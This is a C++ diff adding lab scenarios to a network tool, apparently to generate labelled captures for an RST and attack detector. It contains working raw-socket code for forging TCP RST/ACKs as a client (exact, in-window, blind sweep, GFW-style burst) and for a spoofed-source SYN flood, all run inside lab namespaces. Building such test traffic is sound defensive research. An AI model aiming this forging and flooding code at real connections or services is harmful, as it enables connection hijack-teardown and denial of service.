@@ -6,7 +6,10 @@
 
 #include <cerrno>
 #include <chrono>
+#include <algorithm>
 #include <cstring>
+#include <filesystem>
+#include <functional>
 #include <fmt/format.h>
 
 #include "lab/scenario.hpp"
@@ -137,6 +140,10 @@ void Context::add_extra(std::string origin, const Address& src, uint16_t sport, 
   row.indistinct = std::move(expectation.indistinct);
   row.why_indistinct = std::move(expectation.why);
   extra.push_back(std::move(row));
+}
+
+void Context::expect_pattern(std::string type, std::string why, std::string pcap) {
+  result.expected_patterns.push_back({std::move(type), pcap.empty() ? result.pcap : std::move(pcap), std::move(why)});
 }
 
 namespace {
@@ -518,6 +525,320 @@ void run_forged(Context& ctx) {
                         step == 3 ? "in window, not exact: expect a challenge ACK" : "exact: accepted"));
   }
   ctx.did("the client kept sending a chunk every 60 ms throughout");
+}
+
+namespace {
+
+// A hand-made IPv4 TCP segment, as an attacker writes it: every header field is chosen.
+struct Crafted {
+  Address src, dst;
+  uint16_t sport = 0, dport = 0;
+  uint32_t seq = 0, ack = 0;
+  uint8_t flags = 0;
+  uint16_t window = 502;
+  uint16_t ip_id = 0x2106;
+  uint8_t ttl = 64;
+};
+
+void put16(uint8_t* p, uint32_t v) {
+  p[0] = static_cast<uint8_t>(v >> 8);
+  p[1] = static_cast<uint8_t>(v);
+}
+void put32(uint8_t* p, uint32_t v) {
+  put16(p, v >> 16);
+  put16(p + 2, v & 0xffff);
+}
+uint32_t add_words(const uint8_t* p, size_t length, uint32_t sum) {
+  for (size_t i = 0; i + 1 < length; i += 2) sum += static_cast<uint32_t>((p[i] << 8) | p[i + 1]);
+  return sum;
+}
+uint16_t checksum(uint32_t sum) {
+  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
+  return static_cast<uint16_t>(~sum & 0xffff);
+}
+
+// One raw socket in a namespace (IPPROTO_RAW: the header is ours), kept open for many segments.
+class RawSender {
+ public:
+  bool open(const Namespace& ns, std::string& error) {
+    fd_ = Fd(ns.socket(AF_INET, SOCK_RAW, IPPROTO_RAW));
+    if (!fd_.valid()) error = fmt::format("raw socket: {}", std::strerror(errno));
+    return fd_.valid();
+  }
+  bool send(const Crafted& segment, std::string& error) {
+    uint8_t packet[40] = {};
+    uint8_t* ip = packet;
+    uint8_t* tcp = packet + 20;
+    ip[0] = 0x45;
+    put16(ip + 2, sizeof packet);
+    put16(ip + 4, segment.ip_id);
+    ip[8] = segment.ttl;
+    ip[9] = IPPROTO_TCP;
+    std::memcpy(ip + 12, segment.src.bytes.data(), 4);
+    std::memcpy(ip + 16, segment.dst.bytes.data(), 4);
+    put16(ip + 10, checksum(add_words(ip, 20, 0)));
+    put16(tcp, segment.sport);
+    put16(tcp + 2, segment.dport);
+    put32(tcp + 4, segment.seq);
+    put32(tcp + 8, segment.ack);
+    tcp[12] = 5 << 4;
+    tcp[13] = segment.flags;
+    put16(tcp + 14, segment.window);
+    // Pseudo-header (addresses, protocol, TCP length), then the header itself.
+    const uint32_t pseudo = add_words(ip + 12, 8, 0) + IPPROTO_TCP + 20;
+    put16(tcp + 16, checksum(add_words(tcp, 20, pseudo)));
+    sockaddr_in to{};
+    to.sin_family = AF_INET;
+    std::memcpy(&to.sin_addr, segment.dst.bytes.data(), 4);
+    if (::sendto(fd_.get(), packet, sizeof packet, 0, reinterpret_cast<const sockaddr*>(&to), sizeof to) ==
+        static_cast<ssize_t>(sizeof packet))
+      return true;
+    error = fmt::format("raw send: {}", std::strerror(errno));
+    return false;
+  }
+
+ private:
+  Fd fd_;
+};
+
+constexpr uint8_t flag_syn = 0x02, flag_rst = 0x04, flag_ack = 0x10;
+
+// What an on-path observer in the router reads off the wire for one connection.
+struct Seqs {
+  uint32_t client_next = 0;  // what the server expects next from the client (an exact RST's seq)
+  uint32_t server_next = 0;
+};
+
+bool read_seqs(const Context& ctx, uint16_t client_port, Seqs& seqs) {
+  const Address client = parse_ip(client_v4), server = parse_ip(server_v4);
+  bool seen_client = false, seen_server = false;
+  for (const WireSegment& s : ctx.wire->segments()) {
+    const uint32_t length = s.payload_len + ((s.flags & 0x03) != 0 ? 1u : 0u);
+    if (s.src == client && s.sport == client_port && s.dport == ctx.port) {
+      seqs.client_next = s.seq + length;
+      seen_client = true;
+    } else if (s.src == server && s.sport == ctx.port && s.dport == client_port) {
+      seqs.server_next = s.seq + length;
+      seen_server = true;
+    }
+  }
+  return seen_client && seen_server;
+}
+
+// The forger's RST/ACK in the client's name toward the server.
+Crafted rst_as_client(const Context& ctx, uint16_t client_port, const Seqs& seqs, uint32_t seq) {
+  Crafted rst;
+  rst.src = parse_ip(client_v4);
+  rst.dst = parse_ip(server_v4);
+  rst.sport = client_port;
+  rst.dport = ctx.port;
+  rst.seq = seq;
+  rst.ack = seqs.server_next;
+  rst.flags = flag_rst | flag_ack;
+  return rst;
+}
+
+// An attack on one connection: the real client sends a chunk every 60 ms for 14 steps while, at
+// step 4, the router forges RSTs in its name from what it reads on the wire. The server reads
+// everything; at the end both sides close in order, so a surviving connection ends with FINs.
+using Attack = std::function<bool(Context&, RawSender&, uint16_t client_port, const Seqs&)>;
+void talk_under_attack(Context& ctx, const Attack& attack) {
+  Fd listener = listen_on(ctx.net.server, server_v4, ctx.port, 16);
+  if (!listener.valid()) return void(ctx.fail("listen failed"));
+  Pair pair;
+  if (!open_pair(ctx, listener, pair) || !exchange(ctx, pair)) return;
+  const uint16_t client_port = local_port(pair.client.get());
+  RawSender forger;
+  std::string error, got;
+  if (!forger.open(ctx.net.router, error)) return void(ctx.fail(error));
+  bool attacked = false;
+  int sent = 0;
+  for (int step = 0; step < 14 && !interrupted.load(); ++step) {
+    if (send_text(pair.client.get(), fmt::format("chunk {}\n", step))) ++sent;
+    sleep_ms(60);
+    receive(pair.server.get(), got, 10);
+    if (step != 4) continue;
+    Seqs seqs;
+    if (!read_seqs(ctx, client_port, seqs)) return void(ctx.fail("no segments captured to forge from"));
+    if (!attack(ctx, forger, client_port, seqs)) return;
+    attacked = true;
+  }
+  ctx.did(fmt::format("the client sent {} of 14 chunks, one every 60 ms, throughout", sent));
+  if (!attacked) return void(ctx.fail("the attack did not run"));
+  ::shutdown(pair.client.get(), SHUT_WR);
+  for (int i = 0; i < 20 && receive(pair.server.get(), got, 50) > 0; ++i) {
+  }
+  pair.server.reset();
+  receive(pair.client.get(), got, 300);
+  ctx.did("then the client closed, the server read what was left and closed");
+}
+
+// Genuine RSTs after an accepted forgery: the server has lost the connection, the client has
+// not, and the server's kernel answers the client's next chunk.
+Expectation after_accepted_forgery(const host::KernelReset&) { return only(Cause::half_open); }
+
+Expectation genuine_unexpected(const host::KernelReset&) {
+  return Expectation{Cause::unexplained, {}, "no genuine RST belongs in this scenario"};
+}
+
+}  // namespace
+
+// 5: one RST with the exact seq (an on-path injector reads it off the wire); the server accepts it.
+void run_forged_exact(Context& ctx) {
+  ctx.expect = after_accepted_forgery;
+  talk_under_attack(ctx, [](Context& c, RawSender& forger, uint16_t client_port, const Seqs& seqs) {
+    std::string error;
+    const Crafted rst = rst_as_client(c, client_port, seqs, seqs.client_next);
+    if (!forger.send(rst, error)) return c.fail(error);
+    c.add_extra("forger", rst.src, rst.sport, rst.dst, rst.dport, only(Cause::forged));
+    c.did(fmt::format("router injected a RST/ACK as the client, seq {} = exactly what the server expects", rst.seq));
+    return true;
+  });
+}
+
+// 5, RFC 5961 §3.2: in the window but not exact; the server answers with a challenge ACK that
+// the real client, which never sent a RST, does not answer with an exact RST.
+void run_forged_in_window(Context& ctx) {
+  ctx.expect = genuine_unexpected;
+  talk_under_attack(ctx, [](Context& c, RawSender& forger, uint16_t client_port, const Seqs& seqs) {
+    std::string error;
+    const Crafted rst = rst_as_client(c, client_port, seqs, seqs.client_next + 3001);
+    if (!forger.send(rst, error)) return c.fail(error);
+    c.add_extra("forger", rst.src, rst.sport, rst.dst, rst.dport, only(Cause::forged));
+    c.did(fmt::format("router injected a RST/ACK as the client, seq {} (expected {} +3001): in the window, "
+                      "not exact, so the server sends a challenge ACK and keeps the connection",
+                      rst.seq, seqs.client_next));
+    return true;
+  });
+}
+
+// 5: far outside the window: the server drops it silently; only a blind guess sends such a seq.
+void run_forged_out_of_window(Context& ctx) {
+  ctx.expect = genuine_unexpected;
+  talk_under_attack(ctx, [](Context& c, RawSender& forger, uint16_t client_port, const Seqs& seqs) {
+    std::string error;
+    const Crafted rst = rst_as_client(c, client_port, seqs, seqs.client_next + 0x40000000u);
+    if (!forger.send(rst, error)) return c.fail(error);
+    c.add_extra("forger", rst.src, rst.sport, rst.dst, rst.dport, only(Cause::forged));
+    c.did(fmt::format("router injected a RST/ACK as the client, seq {} (expected {} + 2^30): out of window, "
+                      "dropped by the server", rst.seq, seqs.client_next));
+    return true;
+  });
+}
+
+// 5, Watson's blind reset: RSTs whose seq steps through the space around the receiver's window.
+// A real off-path attacker steps by the window across all 2^32; the lab sweeps 40 steps of 8192
+// around the window, none exact, so the connection survives (RFC 5961) and the run is short.
+void run_blind_sweep(Context& ctx) {
+  ctx.expect = genuine_unexpected;
+  ctx.expect_pattern("blind_reset_attack", "40 RSTs with 40 different seqs on one connection");
+  talk_under_attack(ctx, [](Context& c, RawSender& forger, uint16_t client_port, const Seqs& seqs) {
+    std::string error;
+    constexpr uint32_t count = 40, stride = 8192;
+    const uint32_t start = seqs.client_next - (count / 2) * stride + 1001;
+    for (uint32_t i = 0; i < count && !interrupted.load(); ++i) {
+      Crafted rst = rst_as_client(c, client_port, seqs, start + i * stride);
+      rst.ip_id = static_cast<uint16_t>(0x3000 + i);
+      if (!forger.send(rst, error)) return c.fail(error);
+      c.add_extra("forger", rst.src, rst.sport, rst.dst, rst.dport, only(Cause::forged));
+      if (i % 8 == 7) sleep_ms(1);
+    }
+    c.did(fmt::format("router injected {} RST/ACKs as the client, seq from {} stepping by {} (expected {}); "
+                      "none exact", count, start, stride, seqs.client_next));
+    return true;
+  });
+}
+
+// 5: the Great Firewall's mark (Clayton, Murdoch, Watson 2006; Weaver et al. 2009): three RST/ACKs
+// per trigger, their windows stepping by one, seqs spread over a few segments' worth. The first is
+// exact, so the server drops the connection and answers the client's next chunk with a RST.
+void run_rst_burst(Context& ctx) {
+  ctx.expect = after_accepted_forgery;
+  talk_under_attack(ctx, [](Context& c, RawSender& forger, uint16_t client_port, const Seqs& seqs) {
+    std::string error;
+    constexpr uint16_t window = 2051;
+    const uint32_t offsets[] = {0, 1460, 4380};
+    for (uint16_t i = 0; i < 3; ++i) {
+      Crafted rst = rst_as_client(c, client_port, seqs, seqs.client_next + offsets[i]);
+      rst.window = static_cast<uint16_t>(window + i);
+      rst.ip_id = static_cast<uint16_t>(0x4d00 + i);
+      if (!forger.send(rst, error)) return c.fail(error);
+      c.add_extra("forger", rst.src, rst.sport, rst.dst, rst.dport, only(Cause::forged));
+    }
+    c.did(fmt::format("router injected three RST/ACKs as the client: seq {0}, {0}+1460, {0}+4380 (the first "
+                      "exact), windows {1}, {2}, {3}", seqs.client_next, window, window + 1, window + 2));
+    return true;
+  });
+}
+
+// SYN flood from spoofed sources: 400 SYNs from 8 addresses of 203.0.113.0/24 (50 ports each)
+// toward a listening service. The server answers each with a SYN/ACK toward an address that never
+// sent anything; the router sends those into a link of their own (a network telescope's view)
+// where they die. Two vantage points: the router's server-side link (the victim's side: SYNs,
+// SYN/ACKs and their retransmissions) and that link (the spoofed addresses' side: SYN/ACKs only).
+void run_syn_flood(Context& ctx) {
+  ctx.expect = genuine_unexpected;
+  constexpr int addresses = 8, ports = 50;
+  Fd listener = listen_on(ctx.net.server, server_v4, ctx.port, 1024);
+  if (!listener.valid()) return void(ctx.fail("listen failed"));
+  const std::string telescope = fmt::format("tel{}", ctx.port);
+  std::string output;
+  // A veth pair with ARP off: the router sends straight out of it, nobody answers on the other end.
+  const std::string far_end = fmt::format("tep{}", ctx.port);
+  if (ctx.net.router.exec({"ip", "link", "add", telescope, "type", "veth", "peer", "name", far_end}, &output) != 0 ||
+      ctx.net.router.exec({"ip", "link", "set", telescope, "arp", "off", "up"}, &output) != 0 ||
+      ctx.net.router.exec({"ip", "link", "set", far_end, "up"}, &output) != 0 ||
+      ctx.net.router.exec({"ip", "route", "add", "203.0.113.0/24", "dev", telescope}, &output) != 0)
+    return void(ctx.fail("telescope link: " + output));
+  const std::string telescope_pcap = ctx.out_dir + "/" + ctx.result.name + ".telescope.pcap";
+  {
+    WireCapture view;
+    std::string error;
+    if (!view.start(ctx.net.router, telescope, fmt::format("tcp port {}", ctx.port), telescope_pcap, error)) {
+      ctx.net.router.exec({"ip", "link", "del", telescope});
+      return void(ctx.fail(error));
+    }
+    ctx.result.extra_pcaps.push_back(telescope_pcap);
+    ctx.did(fmt::format("router routes 203.0.113.0/24 into the link {} (captured as {})", telescope,
+                        std::filesystem::path(telescope_pcap).filename().string()));
+    RawSender flooder;
+    if (!flooder.open(ctx.net.router, error)) {
+      ctx.net.router.exec({"ip", "link", "del", telescope});
+      return void(ctx.fail(error));
+    }
+    const auto start = std::chrono::steady_clock::now();
+    uint32_t state = 0x9e3779b9u ^ ctx.port;
+    int sent = 0;
+    for (int a = 0; a < addresses && !interrupted.load(); ++a) {
+      for (int p = 0; p < ports; ++p) {
+        Crafted syn;
+        syn.src = parse_ip(fmt::format("203.0.113.{}", 10 + a).c_str());
+        syn.dst = parse_ip(server_v4);
+        syn.sport = static_cast<uint16_t>(40000 + p);
+        syn.dport = ctx.port;
+        state = state * 1664525u + 1013904223u;
+        syn.seq = state;
+        syn.flags = flag_syn;
+        syn.window = 64240;
+        syn.ip_id = static_cast<uint16_t>(state >> 16);
+        if (flooder.send(syn, error)) ++sent;
+      }
+      sleep_ms(2);
+    }
+    const auto took = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - start);
+    ctx.did(fmt::format("router sent {} SYNs from 203.0.113.10-{} (ports 40000-{}) in {} ms", sent, 9 + addresses,
+                        39999 + ports, took.count()));
+    sleep_ms(1500);  // the SYN/ACK retransmissions (after 1 s) belong to the picture
+    output.clear();
+    ctx.net.server.exec({"ss", "-Htn", "state", "syn-recv", fmt::format("sport = :{}", ctx.port)}, &output);
+    ctx.did(fmt::format("the server holds {} connections in SYN-RECV after 1.5 s",
+                        std::count(output.begin(), output.end(), '\n')));
+    sleep_ms(200);
+  }
+  ctx.net.router.exec({"ip", "link", "del", telescope});
+  ctx.expect_pattern("syn_flood", "the victim's side: 400 handshakes that never complete on one service");
+  ctx.expect_pattern("backscatter", "the spoofed addresses' side: SYN/ACKs for SYNs they never sent",
+                     telescope_pcap);
 }
 
 }  // namespace rstscope::lab
